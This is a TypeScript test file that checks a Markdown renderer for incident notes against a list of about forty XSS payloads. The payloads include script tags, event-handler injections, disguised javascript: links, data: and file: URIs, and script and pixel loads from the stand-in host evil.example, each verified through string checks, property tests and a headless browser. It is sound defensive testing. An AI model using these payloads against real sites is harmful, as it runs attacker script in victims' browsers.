/**
 * Incident notes are Markdown written by one person and read by others with more rights: nothing in them may run.
 * Hostile Markdown and HTML go through the renderer; an independent check reads every tag and attribute of the
 * output, and, where Chromium is installed, a real browser renders it with no Content-Security-Policy to catch what
 * a string check could miss.
 */
import fs from "node:fs";
import fc from "fast-check";
import { isSafeLink, renderMarkdown, sanitizeHtml } from "../../src/ui/views/markdown";

const HOSTILE: string[] = [
  `<script>window.__pwned = "script"</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="window.__pwned='img'">`,
  `![x](x" onerror="window.__pwned='alt')`,
  `![pixel](https://evil.example/track.png)`,
  `![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `[click](javascript:window.__pwned='js')`,
  `[click](JaVaScRiPt:window.__pwned='case')`,
  `[click](  javascript:window.__pwned='space')`,
  `[click](java&#x73;cript:window.__pwned='entity')`,
  `[click](java&#115;cript:window.__pwned='decimal')`,
  `[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned='all-entities')`,
  `[click](javascript&colon;window.__pwned='colon')`,
  `[click](<javascript:window.__pwned='angle'>)`,
  `[click](java\tscript:window.__pwned='tab')`,
  `[click](vbscript:msgbox)`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](file:///etc/passwd)`,
  `<javascript:window.__pwned='autolink'>`,
  `<a href="javascript:window.__pwned='a'">a</a>`,
  `<a href="https://example.com" onclick="window.__pwned='onclick'">x</a>`,
  `[t](https://example.com "x\\" onmouseover=\\"window.__pwned='title'")`,
  `[t](https://example.com" onmouseover="window.__pwned='dest')`,
  "```html\" onload=\"window.__pwned='info'\n<b>code</b>\n```",
  "```javascript:alert(1)\nx\n```",
  `<svg onload="window.__pwned='svg'"><circle/></svg>`,
  `<iframe src="javascript:window.__pwned='iframe'"></iframe>`,
  `<style>body{background:url(javascript:alert(1))}</style>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<form action="https://evil.example"><input name=x></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `&lt;script&gt;window.__pwned='entity-text'&lt;/script&gt;`,
  `&#60;img src=x onerror=alert(1)&#62;`,
  `<details open ontoggle="window.__pwned='toggle'">x</details>`,
  `<!-- <script>window.__pwned='comment'</script> -->`,
  `[a]: javascript:window.__pwned='ref'\n\n[link][a]`,
  `www.evil.example/<script>`,
  `https://example.com/?q=<img src=x onerror=alert(1)>`,
  `<<script>script>window.__pwned='nested'<</script>/script>`,
  `**bold <img src=x onerror=alert(1)> text**`,
  `| a | b |\n|---|:-:|\n| <script>x</script> | [x](javascript:alert(1)) |`,
];

const ALLOWED_TAGS = new Set(["div", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code", "em", "strong", "s", "a", "table", "thead", "tbody", "tr", "th", "td"]);
const ALLOWED_ATTRIBUTES = new Set(["class", "href", "title", "rel", "start"]);

/** Every tag and attribute in the output, read independently of the renderer's own pass. */
function checkMarkup(out: string): string[] {
  const problems: string[] = [];
  for (const m of out.matchAll(/<\/?([^\s>/]+)([^>]*)>/g)) {
    const tag = m[1]!.toLowerCase();
    if (!ALLOWED_TAGS.has(tag)) problems.push(`tag <${tag}>`);
    for (const a of m[2]!.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)) {
      const name = a[1]!.toLowerCase();
      if (name === "/") continue;
      if (!ALLOWED_ATTRIBUTES.has(name)) problems.push(`attribute ${name} on <${tag}>`);
      const value = (a[2] ?? "").replace(/&#(\d+);/g, (_x, d) => String.fromCharCode(Number(d))).replace(/&#x([0-9a-f]+);/gi, (_x, h) => String.fromCharCode(parseInt(h, 16))).replace(/&amp;/g, "&");
      if (name === "href" && !/^(https?:|mailto:|#|\/|[^:]*$)/i.test(value.replace(/\s/g, ""))) problems.push(`href ${value}`);
    }
  }
  // Text between tags must not contain a raw < or a quote that could end an attribute.
  if (/<(?![a-z/])/i.test(out.replace(/<\/?[a-z][^>]*>/gi, ""))) problems.push("stray <");
  return problems;
}

/**
 * The markup of the output without its text and attribute values (escaped text is harmless wherever it appears; href
 * values are checked by checkMarkup): markdown-it escapes text, so every < left starts a tag.
 */
const tagsOf = (out: string) => (out.match(/<[^>]*>/g) ?? []).join("").replace(/="[^"]*"/g, '=""');

test.each(HOSTILE.map((h) => [h]))("when hostile Markdown %j is rendered, then only allowed tags and attributes and safe links remain", (source) => {
  const out = renderMarkdown(source).value;
  expect(checkMarkup(out)).toEqual([]);
  expect(tagsOf(out)).not.toMatch(/<script|<img|<svg|<iframe|<style|<form|<meta|<details|\son\w+=|javascript:|vbscript:|data:/i);
});

test("when ordinary Markdown is rendered, then it keeps its formatting, links get rel=nofollow, and text that looks like HTML is shown as text", () => {
  const out = renderMarkdown(
    "## Fix\n\n**Rebuild** the image with `openssl 3.0.15`:\n\n1. bump\n2. push\n\nSee https://nvd.nist.gov/vuln/detail/CVE-2024-3094 and [the ticket](https://jira.example/SEC-1) or [docs](/ui/images).\n\n```sh\ndocker build .\n```\n\n<b>not bold</b>",
  ).value;
  expect(out).toContain("<h2>Fix</h2>");
  expect(out).toContain("<strong>Rebuild</strong>");
  expect(out).toContain("<code>openssl 3.0.15</code>");
  expect(out).toContain("<ol>");
  expect(out).toContain('<a href="https://nvd.nist.gov/vuln/detail/CVE-2024-3094" rel="nofollow noopener noreferrer">');
  expect(out).toContain('<a href="https://jira.example/SEC-1" rel="nofollow noopener noreferrer">the ticket</a>');
  expect(out).toContain('<a href="/ui/images" rel="nofollow noopener noreferrer">docs</a>');
  expect(out).toContain('<pre><code class="language-sh">docker build .');
  expect(out).toContain("&lt;b&gt;not bold&lt;/b&gt;");
  expect(checkMarkup(out)).toEqual([]);
});

test("when links are checked, then only http, https, mailto and relative links pass, however the scheme is disguised", () => {
  for (const ok of ["https://example.com", "http://x", "mailto:sec@example.com", "/ui/images", "#top", "relative/path", "?q=1"]) expect({ ok, safe: isSafeLink(ok) }).toEqual({ ok, safe: true });
  for (const bad of ["javascript:alert(1)", " JAVASCRIPT:alert(1)", "java\nscript:alert(1)", "java\u0000script:x", "\u200bjavascript:x", "data:text/html,x", "data:image/png;base64,AAAA", "vbscript:x", "file:///etc/passwd", "ftp://x", "x:y", "\\\\evil"])
    expect({ bad, safe: isSafeLink(bad) }).toEqual({ bad, safe: false });
});

test("when the allowlist pass sees markup markdown-it would never produce, then it escapes unknown tags and drops unknown attributes", () => {
  expect(sanitizeHtml(`<p onclick="x">a</p><script>x</script><a href="javascript:x" title="t">l</a><code class="evil">c</code>`)).toBe(
    `<p>a</p>&lt;script&gt;x&lt;/script&gt;<a title="t">l</a><code>c</code>`,
  );
});

test("when Markdown is any mixture of hostile fragments and text (property), then the output passes the independent check", () => {
  const fragment = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 20 }), fc.constantFrom("\n", "\n\n", "**", "`", "[", "](", ")", "<", ">", "\"", "'", "&", "#", "&#", ";", "javascript:", "- ", "> ", "|"));
  fc.assert(
    fc.property(fc.array(fragment, { maxLength: 12 }), (parts) => {
      const out = renderMarkdown(parts.join("")).value;
      expect(checkMarkup(out)).toEqual([]);
      expect(tagsOf(out)).not.toMatch(/\son\w+\s*=|<script|javascript:/i);
    }),
    { numRuns: 400 },
  );
});

const CHROMIUM = "/usr/bin/chromium";
const describeBrowser = fs.existsSync(CHROMIUM) ? describe : describe.skip;

describeBrowser("in a real browser", () => {
  test("when every hostile note is rendered into a page without CSP, then no script runs, no dialog opens, nothing is fetched and every link is http(s), mailto or relative", async () => {
    const { chromium } = await import("playwright-core");
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
    try {
      const page = await browser.newPage();
      const dialogs: string[] = [];
      const requests: string[] = [];
      page.on("dialog", (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      page.on("request", (r) => {
        if (!r.url().startsWith("about:")) requests.push(r.url());
      });
      const body = HOSTILE.map((h) => renderMarkdown(h).value).join("\n");
      await page.setContent(`<!doctype html><html><head><meta charset="utf-8"></head><body>${body}</body></html>`);
      // Hover and focus everything, open every <details>, as a reader would.
      for (const element of await page.$$("body *")) await element.hover({ force: true, timeout: 1000 }).catch(() => undefined);
      // A string, evaluated in the page (this project compiles without the DOM's types).
      const found = (await page.evaluate(`({
        pwned: window.__pwned ?? null,
        elements: [...new Set([...document.querySelectorAll("body *")].map((e) => e.tagName.toLowerCase()))].sort(),
        handlers: [...document.querySelectorAll("body *")].flatMap((e) => [...e.attributes].map((a) => a.name).filter((n) => n.startsWith("on"))),
        links: [...document.querySelectorAll("a[href]")].map((a) => a.protocol),
      })`)) as { pwned: string | null; elements: string[]; handlers: string[]; links: string[] };
      expect(found.pwned).toBeNull();
      expect(dialogs).toEqual([]);
      expect(requests).toEqual([]);
      expect(found.handlers).toEqual([]);
      expect(found.elements.filter((t) => !ALLOWED_TAGS.has(t))).toEqual([]);
      expect(found.links.filter((p) => !["http:", "https:", "mailto:", "about:"].includes(p))).toEqual([]);
    } finally {
      await browser.close();
    }
  }, 60_000);
});
